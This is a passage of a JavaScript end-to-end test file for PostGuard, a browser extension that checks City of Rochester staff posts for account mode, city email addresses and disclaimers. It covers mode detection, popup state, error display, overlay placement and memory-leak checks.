    city: () => { const v = document.querySelector('[aria-label^="Posting as"]'); v.setAttribute('aria-label', 'Posting as City of Rochester, MN'); v.querySelector('a').href = '/profile.php?id=100064512345678'; v.querySelector('a').textContent = 'City of Rochester, MN'; },
    personal: () => { const v = document.querySelector('[aria-label^="Posting as"]'); v.setAttribute('aria-label', 'Posting as Jane Doe'); v.querySelector('a').href = '/profile.php?id=100000000000001'; v.querySelector('a').textContent = 'Jane Doe'; },
    field: '[data-lexical-editor-root]', why: 'City of Rochester',
  },
  'www.linkedin.com': {
    city: () => { const b = document.querySelector('[aria-label^="Post as"]'); b.setAttribute('aria-label', 'Post as City of Rochester, MN'); b.querySelector('a').href = '/company/city-of-rochester-mn/'; },
    personal: () => { const b = document.querySelector('[aria-label^="Post as"]'); b.setAttribute('aria-label', 'Post as Jane Doe'); b.querySelector('a').href = '/in/jane-doe-mn/'; },
    field: '#share-box .ql-editor', why: 'company/city-of-rochester-mn',
  },
  'www.reddit.com': {
    city: () => { document.querySelector('#expand-user-drawer-button span').textContent = 'u/RochesterMN'; },
    personal: () => { document.querySelector('#expand-user-drawer-button span').textContent = 'u/jdoe_mn'; },
    field: '[data-slate-editor="true"]', why: '@RochesterMN',
  },
};

async function testMode({ context, record, G, storage, bg }) {
  const catsOf = async (mode) => {
    const r = await bg({ type: 'check', text: SNOWPLOW, override: mode });
    return [...new Set((r?.findings ?? []).map((f) => f.category))].sort().join(' ');
  };
  await storage('local', 'set', { cityAccounts: ['@RochesterMNGov', 'facebook:100064512345678', 'linkedin:company/city-of-rochester-mn', 'reddit:RochesterMN'] });
  const cityCats = await catsOf('city'), personalCats = await catsOf('personal');
  console.log(`  snowplow post: city mode "${cityCats}", personal mode "${personalCats}"`);
  if (cityCats === personalCats) record(G, 'setup: the snowplow post differs between the modes', false, q(cityCats));
  for (const [host, I] of Object.entries(IDENTITY)) {
    const { page, errors } = await openPage(context, host);
    try {
      if (I.open) { await page.locator(I.open).click(); await poll(() => page.locator(I.field).count(), (n) => n > 0, 3000); }
      await page.evaluate(I.city);
      await page.locator(I.field).click();
      await page.keyboard.type(SNOWPLOW, { delay: 2 });
      const c = await poll(() => attrOf(page, I.field), (v) => v === cityCats, 6000);
      record(G, `${host}: the page shows a City account posting → City mode ("${cityCats}")`, c.ok, `attribute ${q(c.value)}`);
      await page.evaluate(I.personal);
      await page.locator(I.field).click();
      await page.keyboard.press('End');
      await page.keyboard.type(' ', { delay: 2 });
      const p = await poll(() => attrOf(page, I.field), (v) => v === personalCats, 6000);
      record(G, `${host}: the same composer posting as a personal account → personal mode ("${personalCats}")`, p.ok, `attribute ${q(p.value)}`);
      if (host === 'x.com') {
        // The card's one-click switch: this field checked as a City account post.
        const world = await isolatedWorld(page);
        const { card } = await cardFor(page, world, 'city-email');
        const line = await world.evaluate(page.mainFrame(), () => globalThis.PostGuard.overlayShadow()?.querySelector('.pg-mode-text')?.textContent ?? null);
        await page.screenshot({ path: path.join(SHOTS, 'ext-mode-card.png') });
        record(G, 'the card says the mode and why ("posting as @jdoe_mn"), with a switch', /personal post \(posting as @jdoe_mn\)/.test(line ?? ''), `mode line ${q(line)}`);
        const sw = card?.buttons.find((b) => b.cls.includes('pg-switch'));
        if (sw) await page.mouse.click((sw.rect.left + sw.rect.right) / 2, (sw.rect.top + sw.rect.bottom) / 2);
        const s = await poll(() => attrOf(page, I.field), (v) => v === cityCats, 4000);
        record(G, 'the card\'s switch checks this field as a City account post', !!sw && s.ok, `switch ${sw ? q(sw.label) : 'missing'}; attribute ${q(s.value)}`);
        // URL rules are the fallback where no identity is shown: whole path segments.
        await storage('local', 'set', { modeRules: ['https://x.com/RochesterMNGov'] });
        const results = [];
        for (const [u, want] of [['/RochesterMNGov', cityCats], ['/RochesterMNGovFans', personalCats], ['/RochesterMNGov/status/1', personalCats]]) {
          const pg2 = await context.newPage();
          await pg2.goto('https://x.com/', { waitUntil: 'load' });
          await poll(() => pg2.evaluate(() => window.__editorReady === true), (v) => v, 8000);
          await pg2.evaluate((x) => { document.querySelector('nav.sidenav').remove(); history.pushState({}, '', x); }, u);
          await sleep(300);
          await pg2.locator(I.field).click();
          await pg2.keyboard.type(SNOWPLOW, { delay: 0 });
          const r = await poll(() => attrOf(pg2, I.field), (v) => v === want, 6000);
          results.push(`${u} → ${q(r.value)}${r.ok ? '' : ` (want ${q(want)})`}`);
          await pg2.close();
          if (!r.ok) results.push('FAIL');
        }
        record(G, 'no identity shown: the URL rule x.com/RochesterMNGov covers /RochesterMNGov, not /RochesterMNGovFans nor a reply under /status/', !results.includes('FAIL'), results.filter((x) => x !== 'FAIL').join('; '));
        await storage('local', 'remove', ['modeRules']);
      }
      record(G, `${host}: no page errors`, errors.length === 0, errors.join(' | '));
    } catch (e) {
      record(G, `${host}: harness`, false, e.message.split('\n')[0]);
    } finally {
      await page.close().catch(() => {});
    }
  }
  await storage('local', 'remove', ['cityAccounts']);
}

// ---- honest state ------------------------------------------------------------------------------

async function testState({ context, record, G, ext, extOrigin, storage }) {
  const { page, errors } = await openPage(context, 'mastodon.social');
  const popup = await context.newPage();
  try {
    const tabId = await ext.evaluate(async () => (await chrome.tabs.query({ url: 'https://mastodon.social/*' }))[0]?.id);
    const openPopup = async () => { await popup.goto(`${extOrigin}/popup.html?tab=${tabId}`); await poll(() => popup.locator('#status').textContent(), (v) => !/Checking this tab/.test(v), 4000); };
    await page.locator('textarea').click();
    await page.keyboard.type(SNOWPLOW, { delay: 0 });
    await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email disclaimer', 6000);
    await openPopup();
    const c2 = await popup.locator('#count').textContent();
    // Dismiss one finding in the card: the popup counts what the field shows.
    const world = await isolatedWorld(page);
    const { card } = await cardFor(page, world, 'city-email');
    const dis = card?.buttons.find((b) => b.cls.includes('pg-dismiss'));
    if (dis) await page.mouse.click((dis.rect.left + dis.rect.right) / 2, (dis.rect.top + dis.rect.bottom) / 2);
    await sleep(400);
    await openPopup();
    const c1 = await popup.locator('#count').textContent();
    record(G, 'the popup counts the focused field\'s findings minus the dismissed ones', c2 === '2' && c1 === '1', `before dismissing ${q(c2)}, after ${q(c1)}`);
    fs.mkdirSync(SHOTS, { recursive: true });
    await popup.setViewportSize({ width: 340, height: 520 });
    await popup.screenshot({ path: path.join(SHOTS, 'ext-popup.png') });
    // The shortcut as the browser has it (commands.getAll), not a hard-coded one.
    const shortcut = await ext.evaluate(async () => (await chrome.commands.getAll()).find((c) => c.name === 'toggle-checking')?.shortcut ?? '');
    await storage('local', 'set', { enabled: false });
    await sleep(500);
    await openPopup();
    const note = await popup.locator('#off-note').textContent();
    record(G, 'the popup names the on/off shortcut as the browser has it (commands.getAll)', shortcut ? note.includes(shortcut) : !/Alt\+Shift/.test(note), `shortcut ${q(shortcut)}; note ${q(note)}`);
    // Off clears every tab's count.
    const badge = await ext.evaluate((id) => chrome.action.getBadgeText({ tabId: id }), tabId);
    const sess = await ext.evaluate(() => chrome.storage.session.get(null));
    const count = await popup.locator('#count').textContent();
    record(G, 'switching off clears the per-tab counts (toolbar says "off", popup shows none)', badge === 'off' && !Object.keys(sess).some((k) => k.startsWith('tab:')) && count === '\u2013', `badge ${q(badge)}; session ${q(Object.keys(sess))}; popup count ${q(count)}`);
    await storage('local', 'set', { enabled: true });
    await sleep(300);
    // The popup switches the role and this tab's mode.
    await openPopup();
    await popup.locator('#role').selectOption('council');
    const role = await poll(() => storage('local', 'get', 'role'), (v) => v.role === 'council', 2000);
    await popup.locator('#mode-switch').selectOption('city');
    await sleep(300);
    await page.locator('textarea').click();
    await page.keyboard.press('End');
    await page.keyboard.type(' ', { delay: 0 });
    await openPopup();
    const modeNow = await poll(async () => [await popup.locator('#mode').textContent(), await popup.locator('#mode-why').textContent()], ([m]) => m === 'City account', 3000);
    record(G, 'the popup switches the role and this tab\'s mode', role.ok && modeNow.ok, `role ${q(role.value.role)}; mode ${q(modeNow.value[0])} ${q(modeNow.value[1])}`);
    await popup.locator('#mode-switch').selectOption('');
    await storage('local', 'remove', ['role']);
    // A check that fails is visible: "!" on the field, in the toolbar and in the popup.
    const w = await extensionWorker(context);
    await w.evaluate(() => { const a = chrome.storage.local; a.__realGet ??= a.get; a.get = () => Promise.reject(new Error('storage broken (test)')); });
    await storage('local', 'set', { disclaimers: ['Views are mine alone'] }); // makes the worker read the settings again
    await page.locator('textarea').click();
    await page.keyboard.type(' more', { delay: 0 });
    const bang = await poll(() => world.evaluate(page.mainFrame(), overlayElements, { selector: '.pg-badge.pg-error' }), (v) => v?.length === 1, 4000);
    const tb = await ext.evaluate((id) => chrome.action.getBadgeText({ tabId: id }), tabId);
    await openPopup();
    const perr = await popup.locator('#error').textContent();
    const pvis = await popup.locator('#error').isVisible();
    await popup.screenshot({ path: path.join(SHOTS, 'ext-popup-error.png') });
    record(G, 'a failed check is visible: "!" on the field, "!" on the toolbar button, a line in the popup', bang.ok && tb === '!' && pvis && /could not check/.test(perr), `field badges ${bang.value?.length}; toolbar ${q(tb)}; popup ${q(perr)}`);
    await w.evaluate(() => { const a = chrome.storage.local; if (a.__realGet) { a.get = a.__realGet; delete a.__realGet; } });
    await storage('local', 'remove', ['disclaimers']);
    await page.locator('textarea').click();
    await page.keyboard.type('.', { delay: 0 });
    const healed = await poll(() => world.evaluate(page.mainFrame(), overlayElements, { selector: '.pg-badge.pg-error' }), (v) => v?.length === 0, 4000);
    record(G, '...and goes when checking works again', healed.ok, `error badges ${healed.value?.length}`);
    record(G, 'no page errors', errors.length === 0, errors.join(' | '));
  } finally {
    await popup.close().catch(() => {});
    await page.close().catch(() => {});
  }
  // The site's own mention pop-up over the field: no underline drawn over it.
  const m = await openPage(context, 'www.tiktok.com');
  try {
    const world = await isolatedWorld(m.page);
    await m.page.locator('#caption').click();
    await m.page.keyboard.type('Email me at jdoe@rochestermn.gov', { delay: 2 });
    await poll(() => attrOf(m.page, '#caption'), (v) => v === 'city-email', 6000);
    await m.page.evaluate(() => window.__openMentions(false));
    const shown = await poll(() => world.evaluate(m.page.mainFrame(), overlayElements, { selector: '.pg-underline' }), (v) => v?.length >= 1, 3000);
    await m.page.evaluate(() => window.__openMentions(true));
    await m.page.keyboard.type(' ', { delay: 0 }); // the page redraws as the user types on
    const pop = await m.page.locator('#mentions').boundingBox();
    const under = await poll(async () => {
      const us = await world.evaluate(m.page.mainFrame(), overlayElements, { selector: '.pg-underline, .pg-badge' });
      return (us ?? []).filter((u) => u.visible !== false && u.rect.right > pop.x && u.rect.left < pop.x + pop.width && u.rect.bottom > pop.y && u.rect.top < pop.y + pop.height);
    }, (v) => v.length === 0, 3000);
    await m.page.screenshot({ path: path.join(SHOTS, 'ext-mention-popup.png') });
    record(G, 'underlines and badge stay under the site\'s own mention pop-up that covers the field', shown.ok && under.ok, `underlines before the pop-up ${shown.value?.length}; drawn over the pop-up ${under.value.length} ${q(under.value.map((u) => `${u.cls} ${Math.round(u.rect.left)},${Math.round(u.rect.top)}-${Math.round(u.rect.right)},${Math.round(u.rect.bottom)}`))}; pop-up ${q(pop)}`);
    await m.page.evaluate(() => window.__openMentions(false));
    await m.page.keyboard.press('Escape');
    await m.page.keyboard.type('x', { delay: 0 });
    const back = await poll(() => world.evaluate(m.page.mainFrame(), overlayElements, { selector: '.pg-underline' }), (v) => v?.length >= 1, 3000);
    record(G, '...and come back when the pop-up closes', back.ok, `underlines ${back.value?.length}`);
  } finally {
    await m.page.close().catch(() => {});
  }
}

// ---- (e) memory --------------------------------------------------------------------------------

async function testMemory({ context, record, G, stats }) {
  const { page, errors } = await openPage(context, 'www.flickr.com');
  try {
    const world = await isolatedWorld(page);
    const cdp = await context.newCDPSession(page);
    const dom = [];
    const heap = async () => {
      for (let i = 0; i < 3; i++) await cdp.send('HeapProfiler.collectGarbage');
      dom.push(await cdp.send('Memory.getDOMCounters').catch(() => null)); // { documents, nodes, jsEventListeners } of the renderer
      // usedSize: V8's JS heap; embedderHeapUsedSize (when reported): Blink's own (DOM) heap.
      const h = await cdp.send('Runtime.getHeapUsage');
      embedder.push(h.embedderHeapUsedSize ?? null);
      return h.usedSize;
    };
    const embedder = [];
    const s0 = await stats();
    const ROUNDS = 5, N = 1000, TYPED = 4;
    const used = [await heap()];
    const pg = [];
    for (let r = 0; r < ROUNDS; r++) {
      for (let k = 0; k < TYPED; k++) {
        await page.evaluate((kind) => window.__makeEditor(kind), k % 2 ? 'textarea' : 'div');
        await page.locator('#typed').click();
        await page.keyboard.type('jdoe@rochestermn.gov ok', { delay: 0 });
        await poll(() => attrOf(page, '#typed'), (v) => v === 'city-email', 4000);
        await page.evaluate(() => window.__churn(250));
        await page.evaluate(() => window.__dropEditor());
      }
      await page.evaluate((n) => window.__churn(n), N - TYPED * 250 > 0 ? N - TYPED * 250 : 0);
      await sleep(1300); // PostGuard's 1 s sweep drops fields that left the page
      used.push(await heap());
      pg.push(await world.evaluate(page.mainFrame(), () => ({
        states: globalThis.PostGuard.watchedStates().length,
        overlayNodes: globalThis.PostGuard.overlayShadow()?.querySelectorAll('*').length ?? 0,
      })));
    }
    const growth = used.slice(1).map((u, i) => u - used[i]);
    const kb = (b) => `${(b / 1024).toFixed(0)} KB`;
    console.log(`  renderer JS heap after GC: ${used.map(kb).join(' → ')}; growth per round of 1,000 editors (${TYPED} typed into): ${growth.map(kb).join(', ')}`);
    const first = growth[0], last = growth[growth.length - 1];
    const total = used[used.length - 1] - used[0];
    const lastThree = growth.slice(-3).reduce((a, b) => a + b, 0);
    const ok = last <= Math.max(first * 0.5, 256 * 1024) && lastThree <= 768 * 1024;
    record(G, `heap plateaus over ${ROUNDS} rounds of 1,000 created/destroyed editors`, ok,
      `used ${used.map(kb).join(' → ')}; per round ${growth.map(kb).join(', ')}; total ${kb(total)}`);
    if (embedder.every((x) => typeof x === 'number')) {
      console.log(`  renderer Blink (embedder) heap after GC: ${embedder.map(kb).join(' → ')}`);
      const eg = embedder[embedder.length - 1] - embedder[1];
      record(G, 'Blink\'s (DOM) heap plateaus too (Runtime.getHeapUsage embedderHeapUsedSize)', eg <= 128 * 1024, `${embedder.map(kb).join(' → ')}; after round 1: ${kb(eg)}`);
    }
    if (dom.every(Boolean)) {
      const nodes = dom.map((x) => x.nodes), listeners = dom.map((x) => x.jsEventListeners);
      console.log(`  renderer DOM counters after GC: nodes ${nodes.join(' → ')}; JS event listeners ${listeners.join(' → ')}`);
      const okDom = nodes[nodes.length - 1] <= nodes[1] + 200 && listeners[listeners.length - 1] <= listeners[1] + 20;
      record(G, 'no DOM nodes or event listeners retained across rounds (CDP Memory.getDOMCounters)', okDom, `nodes ${nodes.join(' → ')}; listeners ${listeners.join(' → ')}`);
    }
    const end = pg[pg.length - 1];
    record(G, 'PostGuard\'s per-field state and overlay nodes are released', pg.every((x) => x.states === 0) && end.overlayNodes <= 4,
      `after each round: watched fields ${pg.map((x) => x.states).join(', ')}; overlay nodes ${pg.map((x) => x.overlayNodes).join(', ')}`);
    const s1 = await stats();
    const d = diffCounts(s0.received, s1.received);
    record(G, 'editors focused only by script were never checked (only the typed ones)', (d.check ?? 0) <= ROUNDS * TYPED * 4, `${q(d)} for ${ROUNDS * N} editors, ${ROUNDS * TYPED} typed into`);
    record(G, 'no page errors', errors.length === 0, errors.join(' | '));
  } finally {
    await page.close().catch(() => {});
  }
}

// Standalone: node tests/extension/hardening.mjs [--only=GROUP,...], under node:test like run.mjs
// (one test, one phase "hardening", each check a subtest; the same time limit as in run.mjs).
if (import.meta.url === `file://${process.argv[1]}`) {
  await import('../support/runner.mjs'); // re-runs this file under node:test's shared reporter
  const { test } = await import('node:test');
  const { record, phase, results } = await import('../support/checks.mjs');
  const arg = process.argv.find((a) => a.startsWith('--only='));
  const where = () => { const last = results[results.length - 1]; return last ? `after the check "${last.group} · ${last.step}"` : ''; };
  test('extension', async (t) => {
    await phase(t, 'hardening', { timeout: 600_000, where }, () => runHardening({ record, only: arg ? arg.split('=')[1].split(',') : null, bundle: true }));
  });
}
